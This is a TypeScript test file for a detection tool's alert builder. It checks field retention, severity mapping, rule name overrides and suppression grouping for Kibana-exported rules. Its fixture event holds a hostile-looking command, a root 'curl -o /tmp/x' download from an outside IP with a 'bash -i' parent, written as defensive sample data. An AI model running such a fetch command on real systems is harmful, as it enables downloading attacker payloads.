import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { buildAlert } from "../../src/alerts/index.ts";
import { loadBuiltinRules, parseKibanaExport } from "../../src/rules/index.ts";

// A Defend process event with the identities responders pivot on.
const processEvent = {
  "@timestamp": "2024-05-01T12:00:00Z",
  event: { id: "MxYz", category: ["process"], type: ["start"], kind: "event" },
  data_stream: { dataset: "endpoint.events.process" },
  agent: { id: "agent-1", type: "endpoint" },
  host: { id: "host-1", name: "web-7" },
  user: { id: "0", name: "root" },
  process: {
    entity_id: "proc-1",
    pid: 42,
    executable: "/usr/bin/curl",
    args: ["curl", "-o", "/tmp/x", "http://203.0.113.9/x"],
    parent: { entity_id: "proc-0", pid: 41, executable: "/bin/bash", command_line: "bash -i" },
  },
  destination: { ip: "203.0.113.9", port: 80 },
};

describe("alert context", () => {
  test("identity fields and category context are kept in the event even when raw is cut later", async () => {
    const [rule] = await loadBuiltinRules();
    const alert = buildAlert({ rule: rule!, ecs: processEvent, raw: null, uri: "f.ndjson", record: 1 });
    const e = alert.event;
    assert.deepEqual(
      [
        e["event.id"],
        e["agent.id"],
        e["host.id"],
        e["process.entity_id"],
        e["process.parent.entity_id"],
        e["process.parent.pid"],
        e["process.parent.command_line"],
        e["user.id"],
        e["data_stream.dataset"],
        e["destination.ip"],
        e["destination.port"],
      ],
      [
        "MxYz",
        "agent-1",
        "host-1",
        "proc-1",
        "proc-0",
        "41",
        "bash -i",
        "0",
        "endpoint.events.process",
        "203.0.113.9",
        "80",
      ],
    );
    assert.deepEqual(e["process.args"], processEvent.process.args);
    assert.equal(Object.hasOwn(e, "dns.question.name"), false, "absent fields are left out, not null");
  });
});

describe("alerts of Kibana-exported rules", () => {
  const exported = parseKibanaExport(
    `${JSON.stringify({
      rule_id: "bb",
      name: "Base name",
      type: "eql",
      language: "eql",
      query: "process where true",
      severity: "low",
      risk_score: 21,
      building_block_type: "default",
      severity_mapping: [{ field: "host.name", operator: "equals", value: "dc-1", severity: "critical" }],
      rule_name_override: "rule.name",
      alert_suppression: { group_by: ["host.name"], duration: { value: 30, unit: "m" } },
    })}\n`,
    "e.ndjson",
  );
  const rule = exported.rules[0]!.rule;

  test("carry the per-event severity and name, the building-block mark and the suppression group", () => {
    const a = buildAlert({
      rule,
      ecs: { host: { name: "dc-1" }, rule: { name: "Custom name" } },
      raw: {},
      uri: "u",
      record: 1,
    });
    assert.equal(a.rule.severity, "critical");
    assert.equal(a.rule.name, "Custom name");
    assert.equal(a.rule.risk_score, 21);
    assert.equal(a.rule.building_block, true);
    assert.deepEqual(a.suppression, {
      group: { "host.name": ["dc-1"] },
      key: '[["dc-1"]]',
      window_ms: 1_800_000,
    });
    const b = buildAlert({ rule, ecs: { host: { name: "web-1" } }, raw: {}, uri: "u", record: 2 });
    assert.equal(b.rule.severity, "low");
    assert.equal(b.rule.name, "Base name");
  });

  test("a group_by field missing under the default strategy groups as null", () => {
    const a = buildAlert({ rule, ecs: {}, raw: {}, uri: "u", record: 1 });
    assert.deepEqual(a.suppression?.group, { "host.name": null });
  });
});
